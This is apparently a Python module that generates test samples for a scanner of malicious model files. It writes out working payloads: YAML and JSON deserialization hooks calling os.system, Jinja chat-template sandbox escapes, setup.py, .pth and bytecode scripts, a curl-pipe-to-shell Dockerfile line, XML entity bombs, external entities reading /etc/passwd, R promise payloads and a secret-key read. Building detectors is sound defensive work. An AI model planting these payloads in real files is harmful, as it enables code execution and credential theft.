"""Configuration, templates, notebooks, scripts and byte code that lie beside weights; PMML; R data."""

# ruff: noqa: E501   a row a line reads better than a row in five

from __future__ import annotations

import gzip
import importlib.util
import json
import marshal
import struct
import zlib

from corpus.items import COMMAND, SOURCE, Item, table
from momus.zoo.supply_chain.corpus import Member, zipped

HOOK = "{{ cycler.__init__.__globals__.os.system('" + COMMAND + "') }}"
SCRIPT = f"import os\nos.system({COMMAND!r})\n"


def items() -> list[Item]:
    """All of them."""
    return [*_yaml(), *_json(), *_templates(), *_scripts(), *_native(), *_xml(), *_r()]


def _yaml() -> list[Item]:
    tag = "!!python/object/apply:os.system"
    rows = [
        ("apply", f"model: {tag} ['{COMMAND}']\n", "yaml"),
        ("apply with keywords", f"!!python/object/apply:subprocess.run\nkwds: {{args: {COMMAND}, shell: true}}\n", "yaml"),
        ("new", f"!!python/object/new:os.system ['{COMMAND}']\n", "yaml"),
        ("full tag", f"!<tag:yaml.org,2002:python/object/apply:os.system> ['{COMMAND}']\n", "yaml"),
        ("tag by a directive", f"%TAG ! tag:yaml.org,2002:python/object/\n---\nx: !apply:os.system ['{COMMAND}']\n", "yaml"),
        ("percent in the tag", f"!!python/object/apply:os%2Esystem ['{COMMAND}']\n", "yaml"),
        ("second document", f"a: 1\n---\nb: {tag} ['{COMMAND}']\n", "yaml"),
        ("key of a mapping", f"? {tag} ['{COMMAND}']\n: 1\n", "yaml"),
        ("in UTF-16", f"a: {tag} ['{COMMAND}']\n", "yaml"),
        ("name", "optimizer: !!python/name:os.system\n", ""),
        ("module", "code: !!python/module:os\n", ""),
        ("Hydra target", f"model:\n  _target_: os.system\n  command: {COMMAND}\n", ""),
        ("Hydra target, quoted", f"\"_target\\u005f\": builtins.eval\n_args_: [\"{SOURCE}\"]\n", ""),
        ("OmegaConf resolver", "path: ${oc.env:AWS_SECRET_ACCESS_KEY}\n", ""),
        ("MLflow loader module", "flavors:\n  python_function:\n    loader_module: evil\n    code: code\n    env: conda.yaml\n", ""),
        ("conda environment with a path", "dependencies:\n- pip:\n  - git+https://127.0.0.1/x.git\n", ""),
    ]  # fmt: skip
    out = []
    for i, (name, body, how) in enumerate(rows):
        data = body.encode("utf-16") if "UTF-16" in name else body.encode()
        file = "MLmodel" if name.startswith("MLflow") else f"c{i}.yaml"
        out.append((f"YAML: {name}", "code hook", file, data, how))
    return table("yaml", out)


def _json() -> list[Item]:
    auto = {"model_type": "llama", "auto_map": {"AutoModelForCausalLM": "modeling_evil.Evil"}}
    remote = {"auto_map": {"AutoModel": "acme/repo--modeling.Evil"}, "trust_remote_code": True}
    jsonpickle = {"py/reduce": [{"py/function": "posix.system"}, {"py/tuple": [COMMAND]}]}
    modules = [{"idx": 0, "name": "0", "path": "", "type": "evil_module.Evil"}]
    rows = [
        ("auto map", "config.json", json.dumps(auto)),
        ("auto map of another repository", "config.json", json.dumps(remote)),
        ("tokenizer's auto map", "tokenizer_config.json", json.dumps({"auto_map": {"AutoTokenizer": ["tok.Evil", None]}})),
        ("jsonpickle", "model.json", json.dumps(jsonpickle)),
        ("jsonpickle object", "model2.json", json.dumps({"py/object": "subprocess.Popen", "args": COMMAND})),
        ("target", "hparams.json", json.dumps({"_target_": "os.system", "_args_": [COMMAND]})),
        ("sentence-transformers module", "modules.json", json.dumps(modules)),
        ("Keras Lambda in JSON", "model.json", json.dumps({"class_name": "Lambda", "config": {"function": "4wEAAAA="}})),
        ("pickle in base64", "state.json", json.dumps({"state": "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu"})),
        ("custom pipeline", "config.json", json.dumps({"custom_pipelines": {"x": {"impl": "evil.Pipe", "pt": ["AutoModel"]}}})),
    ]  # fmt: skip
    return table("json", [(f"JSON: {n}", "code hook", f, d.encode(), "") for n, f, d in rows])


def gguf(pairs: list[tuple[bytes, bytes]]) -> bytes:
    """A GGUF header of text values."""
    body = b"".join(struct.pack("<Q", len(k)) + k + struct.pack("<IQ", 8, len(v)) + v for k, v in pairs)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs)) + body


def _templates() -> list[Item]:
    system = f"os.system('{COMMAND}')"
    tricks = [
        ("globals of cycler", HOOK),
        ("globals of lipsum", "{{ lipsum.__globals__['os'].popen('" + COMMAND + "').read() }}"),
        ("attribute filter", "{{ (lipsum|attr('__glo' ~ 'bals__'))['os'].system('" + COMMAND + "') }}"),
        ("subclasses", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == '_wrap_close' %}"
                       "{{ c.__init__.__globals__['system']('" + COMMAND + "') }}{% endif %}{% endfor %}"),
        ("names from numbers", "{{ lipsum['%c%cglobals%c%c'|format(95,95,95,95)]['os'].system('" + COMMAND + "') }}"),
        ("names in hexadecimal", "{{ lipsum['\\x5f\\x5fglobals\\x5f\\x5f']['os']['system']('" + COMMAND + "') }}"),
        ("names by map", "{{ [lipsum]|map(attribute='__globals__')|map(attribute='os')|first|attr('system')('" + COMMAND + "') }}"),
        ("inside a macro", "{% macro m(x) %}{{ x.__init__.__globals__." + system + " }}{% endmacro %}{{ m(joiner) }}"),
        ("hidden in a long template", "{% for m in messages %}{{ m['content'] }}\n{% endfor %}" * 60 + HOOK),
    ]  # fmt: skip
    rows = []
    for i, (name, body) in enumerate(tricks):
        rows.append((f"GGUF template: {name}", "chat template", f"t{i}.gguf", gguf([(b"general.architecture", b"llama"),
                     (b"tokenizer.chat_template", body.encode())]), "template"))  # fmt: skip
    for name, body in tricks[:4]:
        data = json.dumps({"tokenizer_class": "X", "chat_template": body}).encode()
        rows.append((f"tokenizer template: {name}", "chat template", "tokenizer_config.json", data, "template"))
    listed = {"chat_template": [{"name": "default", "template": "{{ x }}"}, {"name": "tool", "template": HOOK}]}
    spelled = '{"chat_template": "{{ cycler.\\u005f_init__.__globals__.os.system(\'' + COMMAND + "') }}\"}"
    rows += [
        ("template in a list", "chat template", "tokenizer_config.json", json.dumps(listed).encode(), "template"),
        ("template with escapes", "chat template", "tokenizer_config.json", spelled.encode(), "template"),
        ("template in a file", "chat template", "chat_template.jinja", HOOK.encode(), "template"),
        ("template named for tools", "chat template", "tools.gguf", gguf([(b"tokenizer.chat_template.tool_use", HOOK.encode())]), ""),
    ]  # fmt: skip
    return table("template", rows)


def _notebook(*cells: str) -> bytes:
    made: list[dict[str, object]] = [
        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": c} for c in cells
    ]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def _scripts() -> list[Item]:
    machine = compile(SCRIPT, "m", "exec")
    code = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(machine)
    output = {
        "output_type": "display_data",
        "data": {"text/html": "<script>fetch('http://127.0.0.1')</script>"},
        "metadata": {},
    }
    shown = json.loads(_notebook("1 + 1"))
    shown["cells"][0]["outputs"] = [output]
    rows = [
        ("setup script", "setup.py", SCRIPT.encode(), "run"),
        ("setup script that hides its text", "setup.py", b"exec(bytes.fromhex('" + SCRIPT.encode().hex().encode() + b"'))\n", "run"),
        ("modelling code", "modeling_evil.py", SCRIPT.encode(), "import"),
        ("package beside the weights", "model/__init__.py", SCRIPT.encode(), "import"),
        ("conftest", "conftest.py", SCRIPT.encode(), "import"),
        ("path file", "evil.pth", f"import os; os.system({COMMAND!r})\n".encode(), "site"),
        ("byte code", "evil.pyc", code, "run"),
        ("byte code in an old format", "old.pyc", b"\xee\x0c\r\n" + bytes(4) + marshal.dumps(machine), ""),
        ("shell script", "install.sh", f"#!/bin/sh\n{COMMAND}\n".encode(), "make"),
        ("makefile", "Makefile", f"all:\n\t{COMMAND}\n".encode(), ""),
        ("shell script without its first line", "run", f"set -e\ncd .\n{COMMAND}\n[ -f x ] && rm -rf x\nexit 0\n".encode(), "make"),
        ("notebook with a shell line", "demo.ipynb", _notebook("!" + COMMAND), "notebook"),
        ("notebook with a list of lines", "list.ipynb", _notebook("import os\n", SOURCE), "notebook"),
        ("notebook with a script as its output", "out.ipynb", json.dumps(shown).encode(), ""),
        ("requirements from elsewhere", "requirements.txt", b"--extra-index-url http://127.0.0.1/\ntorch==2.13.0\n", ""),
        ("build backend beside", "pyproject.toml", b'[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n', ""),
        ("container recipe", "Dockerfile", b"FROM python\nRUN curl http://127.0.0.1/x | sh\n", ""),
        ("wheel with a script", "evil-1.0-py3-none-any.whl", zipped([Member("evil/__init__.py", SCRIPT.encode()),
                                                                  Member("evil-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0")]), ""),
        ("zip that Python runs", "model.pyz", b"#!/usr/bin/env python3\n" + zipped([Member("__main__.py", SCRIPT.encode())]), ""),
        ("zip with a main", "app.zip", zipped([Member("__main__.py", SCRIPT.encode())]), "run"),
    ]  # fmt: skip
    return table("script", [(n, "script", f, d, how) for n, f, d, how in rows])


def _native() -> list[Item]:
    wasm = b"\0asm\x01\0\0\0" + bytes(32)
    jar = zipped(
        [Member("META-INF/MANIFEST.MF", b"Main-Class: Evil"), Member("Evil.class", b"\xca\xfe\xba\xbe" + bytes(32))]
    )
    java = b"\xac\xed\x00\x05sr\x00\x2eorg.apache.commons.collections.Transformer" + bytes(16)
    rows = [
        ("shared library", "libop.so", b"\x7fELF\x02\x01\x01" + bytes(2048)),
        ("Windows library", "op.dll", b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(256)),
        ("Mac library", "op.dylib", b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(256)),
        ("library called .bin", "pytorch_model.bin", b"\x7fELF\x02\x01\x01" + bytes(512)),
        ("WebAssembly", "op.wasm", wasm),
        ("Java archive", "model.jar", jar),
        ("Java objects", "model.ser", java),
        ("Lua bytecode", "net.t7", b"\x1bLua" + bytes(64)),
        ("Windows shortcut", "model.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(64)),
        ("TensorRT engine", "model.engine", b"ftrt" + bytes(128)),
        ("MATLAB 5 with a function handle", "m.mat", b"MATLAB 5.0 MAT-file".ljust(124) + b"\0\x01IM" + bytes(64)),
    ]
    return table("native", [(n, "native code", f, d, "") for n, f, d in rows])


def _xml() -> list[Item]:
    head = '<?xml version="1.0"?>\n'
    body = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/><DataDictionary/>{}</PMML>'
    laughs = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    rows = [
        ("entity bomb", f'{head}<!DOCTYPE PMML [<!ENTITY a0 "ha">{laughs}]>' + body.format("<Extension>&a9;</Extension>")),
        ("quadratic entities", f'{head}<!DOCTYPE P [<!ENTITY a "{"x" * 50_000}">]><P>{"&a;" * 20_000}</P>'),
        ("external entity", f'{head}<!DOCTYPE P [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + body.format("<Extension>&a;</Extension>")),
        ("external grammar", f'{head}<!DOCTYPE PMML SYSTEM "http://127.0.0.1/evil.dtd">' + body.format("")),
        ("parameter entity", f'{head}<!DOCTYPE P [<!ENTITY % a SYSTEM "http://127.0.0.1/x"> %a;]><P/>'),
        ("style sheet", f'{head}<?xml-stylesheet type="text/xsl" href="http://127.0.0.1/x.xsl"?>' + body.format("")),
        ("inclusion", head + body.format('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>')),
        ("Java function", head + body.format('<TransformationDictionary><DerivedField><Apply function="java.lang.Runtime.exec">'
                                             "<Constant>x</Constant></Apply></DerivedField></TransformationDictionary>")),
        ("script extension", head + body.format('<Extension name="script" value="python"><![CDATA[import os]]></Extension>')),
        ("unknown element", head + body.format("<EvilModel functionName='regression'/>")),
        ("nested too deep", head + "<PMML>" + "<a>" * 60_000 + "</a>" * 60_000 + "</PMML>"),
        ("in UTF-7", '<?xml version="1.0" encoding="utf-7"?>' + body.format("+ADw-script/+AD4-")),
    ]  # fmt: skip
    return table("pmml", [(f"PMML: {n}", "xml", f"p{i}.pmml", d.encode(), "") for i, (n, d) in enumerate(rows)])


def _sexp(flags: int, body: bytes = b"") -> bytes:
    return struct.pack(">i", flags) + body


def r_call() -> bytes:
    """The language object system("touch momus-marker") in R's format."""

    def word(value: str) -> bytes:
        return _sexp(0x00040009, struct.pack(">i", len(value)) + value.encode())

    symbol = _sexp(1, word("system"))
    text = _sexp(16, struct.pack(">i", 1) + word(COMMAND))
    return _sexp(6, symbol + _sexp(2, text + _sexp(254)))


def _r() -> list[Item]:
    head = b"X\n" + struct.pack(">iii", 2, 0x00040202, 0x00020300)
    promise = _sexp(5, _sexp(252) + r_call())  # value unbound: R runs the expression when it is asked for
    environment = _sexp(4, struct.pack(">i", 0) + _sexp(253) + _sexp(254) + _sexp(254) + _sexp(254))
    closure = _sexp(3 | 1 << 9, _sexp(254) + _sexp(253) + _sexp(254) + r_call())
    native = _sexp(22, _sexp(254) + _sexp(254))
    frame = _sexp(19, struct.pack(">i", 1) + promise)
    active = _sexp(2 | 1 << 10, _sexp(1, _sexp(0x00040009, struct.pack(">i", 1) + b"x")) + closure + _sexp(254))
    rows = [
        ("promise", "promise", "a.rds", gzip.compress(head + promise, mtime=0)),
        ("promise, not compressed", "promise", "b.rds", head + promise),
        ("promise inside a list", "promise", "c.rds", gzip.compress(head + frame, mtime=0)),
        ("promise in a workspace", "promise", "d.rda", gzip.compress(b"RDX2\n" + head + active.replace(closure, promise), mtime=0)),
        ("closure", "function", "e.rds", gzip.compress(head + closure, mtime=0)),
        ("external pointer", "pointer", "f.rds", gzip.compress(head + native, mtime=0)),
        ("expression", "language", "g.rds", gzip.compress(head + r_call(), mtime=0)),
        ("length of 2^31", "length", "h.rds", gzip.compress(head + _sexp(14, struct.pack(">i", 0x7FFFFFFF)), mtime=0)),
        ("promise in ASCII", "promise", "i.rds", b"A\n2\n262658\n131840\n5\n252\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n4\ntrue\n254\n"),
        ("environment cycle", "loop", "j.rds", zlib.compress(head + environment)),
    ]  # fmt: skip
    return table("r", [(f"R: {n}", t, f, d, "") for n, t, f, d in rows])
